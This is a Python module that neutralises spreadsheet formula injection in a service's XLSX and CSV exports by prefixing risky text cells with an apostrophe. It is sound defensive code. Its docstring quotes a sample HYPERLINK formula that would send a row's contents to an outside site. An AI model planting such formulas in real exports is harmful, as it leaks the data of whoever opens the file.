"""Cells the service writes into XLSX and CSV files, made safe to open in a spreadsheet.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by Excel, LibreOffice or Google Sheets ("formula injection": a substitute named
``=HYPERLINK("http://…"&B2,"Xem")`` would send the row to another site). Every exporter passes its
rows through ``safe_row`` (or writes through ``SafeCsvWriter``), which prefixes such text with an
apostrophe, the spreadsheet's own "this is text" mark. Numbers, dates and booleans are kept as they are.

``as_text`` (a whole normal workbook before it is saved) and ``text_cells`` (one row of a write-only
sheet) are the same rule for exporters that build their rows first.
"""
from __future__ import annotations

import csv

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` unchanged unless it is text a spreadsheet would evaluate; then ``'`` + the text.
    Control characters an XLSX cannot hold (typed into a title through the API) are dropped."""
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        if value.startswith(FORMULA_STARTS):
            return "'" + value
    return value


def safe_row(values) -> list:
    """Every cell of a row through ``safe_cell`` (openpyxl ``WriteOnlyCell``s: their value)."""
    row = []
    for value in values:
        if hasattr(value, "value") and hasattr(value, "coordinate"):  # an openpyxl cell
            value.value = safe_cell(value.value)
            row.append(value)
        else:
            row.append(safe_cell(value))
    return row


class SafeCsvWriter:
    """``csv.writer`` whose rows go through ``safe_row``: the one way the service writes CSV."""

    def __init__(self, stream, *args, **kwargs):
        self._writer = csv.writer(stream, *args, **kwargs)

    def writerow(self, values):
        return self._writer.writerow(safe_row(values))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)


def append(sheet, values) -> None:
    """``sheet.append(values)`` with every text cell made safe."""
    sheet.append(safe_row(values))


def as_text(book) -> None:
    """Every text cell of a (normal) workbook that a spreadsheet would run made safe, in place."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    cell.value = safe_cell(cell.value)
                    cell.data_type = "s"


def text_cells(sheet, values) -> list:
    """A safe row for ``sheet.append`` (``sheet`` kept for the callers' signature)."""
    return safe_row(values)
